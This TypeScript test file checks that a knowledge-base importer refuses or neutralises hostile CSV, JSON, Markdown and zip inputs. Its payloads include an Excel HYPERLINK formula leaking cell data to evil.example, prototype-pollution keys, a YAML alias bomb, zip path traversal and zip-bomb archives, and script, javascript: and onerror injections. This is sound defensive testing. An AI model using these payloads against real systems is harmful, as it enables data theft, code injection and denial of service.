import { deflateSync } from 'fflate';
import { applyImport } from '@/utils/kb/io/apply';
import { parseImport, type ImportSource } from '@/utils/kb/io/parse';
import { previewImport } from '@/utils/kb/io/preview';
import { ImportFileError } from '@/utils/kb/io/types';
import { crc32, zipTextFiles } from '@/utils/kb/io/zip';
import { encodeLegacy, makeZip, utf8 } from '../../support/hostile';
import { markupInjected, snapshot } from './check';
import { SCRIPT, type CaseContext, type CaseResult, type HostileCase } from './types';

/** The clock the imports stamp articles with (fixed: nothing here depends on today). */
const NOW = Date.UTC(2026, 2, 2, 8);

/**
 * Feeds files through the knowledge-base import exactly as the KB page does: parse, preview, and
 * import (all or nothing, invalid rows not skipped). Refused = a whole-file error or invalid rows,
 * each located; accepted = every valid article written, nothing else.
 */
async function importFiles(ctx: CaseContext, sources: ImportSource[]): Promise<CaseResult> {
  const before = await snapshot(ctx.db);
  try {
    const parsed = await parseImport(sources);
    const preview = await previewImport(ctx.db, parsed);
    if (preview.invalidItems > 0) {
      let threw = false;
      try {
        await applyImport(ctx.db, preview, { now: NOW });
      } catch {
        threw = true;
      }
      const after = await snapshot(ctx.db);
      const located = preview.invalid.every((p) => p.where !== '' && p.field !== '');
      const first = preview.invalid[0]!;
      return {
        outcome: 'refused',
        located,
        detail: `${first.where} ${first.field}: ${first.message}`.slice(0, 140),
        partialWrite: !threw || JSON.stringify(after) !== JSON.stringify(before),
      };
    }
    const outcome = await applyImport(ctx.db, preview, { now: NOW });
    const stored = await ctx.db.articles.toArray();
    const wanted = [...preview.new, ...preview.changed].map((e) => e.article.id);
    const all = wanted.every((id) => stored.some((a) => a.id === id));
    const skipped = parsed.skipped?.length ? `, ${parsed.skipped.length} zip entries skipped` : '';
    return {
      outcome: 'accepted',
      located: true,
      detail: `${outcome.added} added, ${outcome.updated} updated (${parsed.encoding})${skipped}`,
      partialWrite: !all || stored.length !== outcome.added + JSON.parse(before.articles).length,
      markupInjected: markupInjected(stored),
    };
  } catch (err) {
    const after = await snapshot(ctx.db);
    const names = sources.map((s) => s.name);
    const message = err instanceof Error ? err.message : String(err);
    const detail = err instanceof ImportFileError ? err.detail : '';
    return {
      outcome: 'refused',
      // A whole-file refusal names the file, the columns, the line or the limit.
      located:
        err instanceof ImportFileError &&
        (names.some((n) => detail.includes(n) || message.includes(n)) || detail !== '' || /\d/.test(message)),
      detail: `${err instanceof ImportFileError ? err.code : 'crash'}: ${detail || message}`.slice(0, 140),
      partialWrite: JSON.stringify(after) !== JSON.stringify(before),
    };
  }
}

const file = (name: string, bytes: Uint8Array | string): ImportSource => ({
  name,
  bytes: typeof bytes === 'string' ? utf8(bytes) : bytes,
});

const kb = (name: string, expect: HostileCase['expect'], sources: () => ImportSource[]): HostileCase => ({
  area: 'kb-file',
  name,
  expect,
  run: (ctx) => importFiles(ctx, sources()),
});

const CSV_HEAD = 'id,lang,title,body,reviewBy';
const csv = (...rows: string[]) => [CSV_HEAD, ...rows].join('\r\n');
const md = (title: string, body = 'Body', extra = '') => `---\ntitle: ${title}\nlang: en\n${extra}---\n${body}\n`;
const article = (over: Record<string, unknown> = {}) => ({
  id: 'a1',
  lang: 'en',
  title: 'Refund',
  body: 'Body',
  ...over,
});
const kbJson = (articles: unknown[]) => JSON.stringify({ format: 'seatmate-kb', schemaVersion: 1, articles });
const aliasBomb = [
  '---',
  ...'abcdefg'
    .split('')
    .map((k, i) =>
      i === 0
        ? `a: &a [${'"x",'.repeat(8)}"x"]`
        : `${k}: &${k} [${`*${'abcdefg'[i - 1]},`.repeat(8)}*${'abcdefg'[i - 1]}]`,
    ),
  'title: Bomb',
  'lang: en',
  '---',
  'x',
].join('\n');

function utf16le(text: string): Uint8Array {
  const out = new Uint8Array(2 + text.length * 2);
  out.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) {
    out[2 + i * 2] = text.charCodeAt(i) & 0xff;
    out[3 + i * 2] = text.charCodeAt(i) >> 8;
  }
  return out;
}

/** A zip whose one Markdown entry says it is `declared` bytes when inflated. */
function zipDeclaring(declared: number): Uint8Array {
  const zip = makeZip([{ name: 'big.md', data: utf8(md('Big')) }]);
  const view = new DataView(zip.buffer);
  const central = zip.length - 22 - 46 - 'big.md'.length;
  view.setUint32(central + 24, declared, true);
  return zip;
}

/** A zip with one deflated entry, then `patch` applied to its central directory entry. */
function zipPatched(patch: (view: DataView, central: number) => void): Uint8Array {
  const data = utf8(md('Patched'));
  const zip = makeZip([{ name: 'p.md', data }]);
  const view = new DataView(zip.buffer);
  patch(view, zip.length - 22 - 46 - 'p.md'.length);
  return zip;
}

/** Knowledge-base files: CSV, JSON, Markdown, zips and encodings. */
export function kbFileCases(): HostileCase[] {
  const big = Array.from({ length: 10_000 }, (_, i) => `kb-${i},en,Title ${i},Body ${i},`);
  big[7_000] = 'kb-7000,en,,Body with no title,';
  return [
    kb('CSV: a title that is an Excel formula', 'accepted', () => [
      file('f.csv', csv(`f1,en,"=HYPERLINK(""https://evil.example/?""&A1,""Refund"")",Body,`)),
    ]),
    kb('CSV: cells starting with + - @ tab', 'accepted', () => [
      file('f.csv', csv('f2,en,+1,-2 @x,', 'f3,en,@SUM(A1),"\tx",')),
    ]),
    kb('CSV: GBK from Excel on Chinese Windows', 'accepted', () => [
      file('gbk.csv', encodeLegacy(csv('r1,zh-CN,退款政策,七天无理由退货。,'), 'gbk')),
    ]),
    kb('CSV: Shift-JIS', 'refused', () => [
      file('jp.csv', encodeLegacy(csv('r1,en,返金ポリシー,返金は七日以内。,'), 'shift_jis')),
    ]),
    kb('CSV: EUC-KR', 'refused', () => [
      file('kr.csv', encodeLegacy(csv('r1,en,환불 정책,환불은 7일 이내에 가능합니다.,'), 'euc-kr')),
    ]),
    kb('CSV: Big5', 'refused', () => [
      file('tw.csv', encodeLegacy(csv('r1,zh-CN,退款政策,退款將於七個工作天內完成。,'), 'big5')),
    ]),
    kb('CSV: Latin-1', 'refused', () => [
      file('fr.csv', encodeLegacy(csv('r1,en,Café,Résumé déjà vu,'), 'windows-1252')),
    ]),
    kb('CSV: UTF-8 with a damaged byte', 'refused', () => {
      const b = utf8(csv('r1,zh-CN,退款政策,七天无理由退货，三到五个工作日到账。,'));
      return [file('bad.csv', Uint8Array.from([...b.subarray(0, 40), 0xff, ...b.subarray(40)]))];
    }),
    kb('CSV: UTF-8 cut in the middle of a character', 'refused', () => {
      const b = utf8(csv('r1,zh-CN,退款政策,七天无理由退货，三到五个工作日到账'));
      return [file('cut.csv', b.subarray(0, b.length - 1))];
    }),
    kb('CSV: UTF-16 LE with a BOM', 'accepted', () => [file('u16.csv', utf16le(csv('u1,zh-CN,退款,七天,')))]),
    kb('CSV: UTF-16 BOM, odd byte count', 'refused', () => [
      file('u16.csv', utf16le(csv('u1,en,A,B,')).subarray(0, 21)),
    ]),
    kb('CSV: binary with NUL bytes', 'refused', () => [
      file('bin.csv', Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 1])),
    ]),
    kb('CSV: empty file', 'refused', () => [file('empty.csv', '')]),
    kb('CSV: header only', 'refused', () => [file('head.csv', CSV_HEAD)]),
    kb('CSV: unknown column', 'refused', () => [file('col.csv', 'title,body,__proto__\nA,B,C')]),
    kb('CSV: repeated column', 'refused', () => [file('col.csv', 'title,body,title\nA,B,C')]),
    kb('CSV: unclosed quote', 'refused', () => [file('q.csv', csv('q1,en,"Refund,Body,'))]),
    kb('CSV: too many cells', 'refused', () => [file('n.csv', csv('n1,en,A,B,,extra,more'))]),
    kb('CSV: steps cell that is not JSON', 'refused', () => [file('s.csv', 'title,body,steps\nA,B,{not json')]),
    kb('CSV: review date 2026-02-31', 'refused', () => [file('d.csv', csv('d1,en,A,B,2026-02-31'))]),
    kb('CSV: 10,000 rows, row 7,002 without a title', 'refused', () => [file('big.csv', csv(...big))]),
    kb('CSV: a 60,000-character body', 'refused', () => [file('long.csv', csv(`l1,en,A,${'x'.repeat(60_000)},`))]),
    kb('CSV: placeholder keys named like prototype members', 'accepted', () => [
      file('ph.csv', csv('p1,en,A,Hi {{constructor}} {{__proto__}} {{toString}},')),
    ]),
    kb('CSV: script and javascript: link in the body', 'accepted', () => [
      file('x.csv', csv(`x1,en,A,"<script>${SCRIPT.replace(/"/g, '""')}</script> [x](javascript:${SCRIPT})",`)),
    ]),
    kb('CSV: old Mac line ends (CR only)', 'accepted', () => [file('cr.csv', 'title,body\rA,B\rC,D')]),
    kb('JSON: a key written twice in an article', 'refused', () => [
      file('dup.json', kbJson([article()]).replace('"title":"Refund"', '"title":"Refund","title":"=cmd|x"')),
    ]),
    kb('JSON: "articles" written twice', 'refused', () => [
      file('dup.json', '{"format":"seatmate-kb","schemaVersion":1,"articles":[],"articles":[{"id":"x"}]}'),
    ]),
    kb('JSON: __proto__ and constructor keys', 'refused', () => [
      file(
        'proto.json',
        kbJson([article()]).replace(
          '"id":"a1"',
          '"__proto__":{"polluted":1,"title":"x"},"constructor":{"prototype":{"isAdmin":true}},"id":"a1"',
        ),
      ),
    ]),
    kb('JSON: nested 100,000 deep', 'refused', () => [
      file('deep.json', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    ]),
    kb('JSON: schemaVersion 99', 'refused', () => [file('v.json', '{"schemaVersion":99,"articles":[{}]}')]),
    kb('JSON: items that are not objects', 'refused', () => [file('arr.json', '[1,"x",null,[]]')]),
    kb('JSON: not JSON at all', 'refused', () => [file('no.json', "{title: 'x'}")]),
    kb('JSON: 1,000 valid articles with a BOM', 'accepted', () => [
      file('many.json', `\uFEFF${kbJson(Array.from({ length: 1_000 }, (_, i) => article({ id: `m${i}` })))}`),
    ]),
    kb('JSON: 21 placeholders (limit 20)', 'refused', () => [
      file(
        'ph.json',
        kbJson([article({ placeholders: Array.from({ length: 21 }, (_, i) => ({ key: `k${i}`, label: `K${i}` })) })]),
      ),
    ]),
    kb('JSON: a team-pack id with a slash', 'refused', () => [file('id.json', kbJson([article({ id: 'team/a1' })]))]),
    kb('JSON: 2025-02-29 as verifiedOn', 'refused', () => [
      file('d.json', kbJson([article({ verifiedOn: '2025-02-29' })])),
    ]),
    kb('Markdown: YAML alias bomb', 'refused', () => [file('bomb.md', aliasBomb)]),
    kb('Markdown: title {toString: 1}', 'refused', () => [
      file('ts.md', '---\ntitle: {toString: 1}\nlang: {toString: 1}\n---\nx'),
    ]),
    kb('Markdown: YAML nested 20,000 deep', 'refused', () => [
      file('deep.md', `---\ntitle: ${'['.repeat(20_000)}\n---\nx`),
    ]),
    kb('Markdown: a !!js/function tag', 'accepted', () => [
      file('tag.md', md(`!!js/function 'function(){${SCRIPT}}'`)),
    ]),
    kb('Markdown: front matter never closed', 'refused', () => [file('open.md', '---\ntitle: A\nlang: en\nBody')]),
    kb('Markdown: __proto__ in front matter', 'refused', () => [
      file('proto.md', md('A', 'B', '__proto__: {polluted: 1}\n')),
    ]),
    kb('Markdown: Shift-JIS file', 'refused', () => [
      file('jp.md', encodeLegacy(md('返金ポリシー', 'ポリシー'), 'shift_jis')),
    ]),
    kb('Markdown: script tags and event handlers in the body', 'accepted', () => [
      file('x.md', md('X', `<img src=x onerror="${SCRIPT}"> <a href="{{link}}">track {{orderNo}}</a>`)),
    ]),
    kb('Markdown folder: 3 good files, an alias bomb and a {toString} file', 'refused', () => [
      file('kb/a.md', md('A')),
      file('kb/b.md', md('B')),
      file('kb/c.md', md('C')),
      file('kb/bomb.md', aliasBomb),
      file('kb/ts.md', '---\ntitle: {toString: 1}\n---\nx'),
    ]),
    kb('Zip: the same path twice (the first is read, the second listed)', 'accepted', () => [
      file(
        'kb.zip',
        makeZip([
          { name: 'a.md', data: utf8(md('First')) },
          { name: 'a.md', data: utf8(md('Second')) },
        ]),
      ),
    ]),
    kb('Zip: ../ and absolute paths (listed as skipped)', 'accepted', () => [
      file(
        'kb.zip',
        makeZip([
          { name: '../../evil.md', data: utf8(md('Evil')) },
          { name: '/etc/evil.md', data: utf8(md('Abs')) },
          { name: 'ok.md', data: utf8(md('Ok')) },
        ]),
      ),
    ]),
    kb('Zip: a wrong CRC-32', 'refused', () => {
      const data = utf8(md('Bad'));
      return [file('kb.zip', makeZip([{ name: 'bad.md', data, crc: crc32(data) ^ 0xff }]))];
    }),
    kb('Zip: cut short', 'refused', () => [
      file('kb.zip', zipTextFiles([{ path: 'a.md', text: md('A') }]).subarray(0, 40)),
    ]),
    kb('Zip: declares 200 MB of Markdown', 'refused', () => [file('kb.zip', zipDeclaring(200 * 1024 * 1024))]),
    kb('Zip: an encrypted entry', 'refused', () => [
      file(
        'kb.zip',
        zipPatched((v, c) => v.setUint16(c + 8, v.getUint16(c + 8, true) | 1, true)),
      ),
    ]),
    kb('Zip: an unknown compression method', 'refused', () => [
      file(
        'kb.zip',
        zipPatched((v, c) => v.setUint16(c + 10, 14, true)),
      ),
    ]),
    kb('Zip: a size that does not match', 'refused', () => [
      file(
        'kb.zip',
        zipPatched((v, c) => v.setUint32(c + 24, 3, true)),
      ),
    ]),
    kb('Zip: directory offset outside the file', 'refused', () => [
      file(
        'kb.zip',
        zipPatched((v) => v.setUint32(v.byteLength - 6, 0x7fffffff, true)),
      ),
    ]),
    kb('Zip: no Markdown in it', 'refused', () => [file('kb.zip', zipTextFiles([{ path: 'a.txt', text: 'x' }]))]),
    kb('Zip: GBK file names from Chinese Windows', 'accepted', () => [
      file('kb.zip', makeZip([{ name: '', rawName: encodeLegacy('退款.md', 'gbk'), data: utf8(md('退款')) }])),
    ]),
    kb('Zip: a deflate stream that expands past its declared size', 'refused', () => {
      const data = utf8(md('X', 'y'.repeat(10_000)));
      const zip = makeZip([{ name: 'x.md', data: deflateSync(data) }]);
      const view = new DataView(zip.buffer);
      const central = zip.length - 22 - 46 - 'x.md'.length;
      view.setUint16(central + 10, 8, true); // say deflate
      view.setUint32(central + 24, 100, true); // and 100 bytes
      return [file('kb.zip', zip)];
    }),
  ];
}
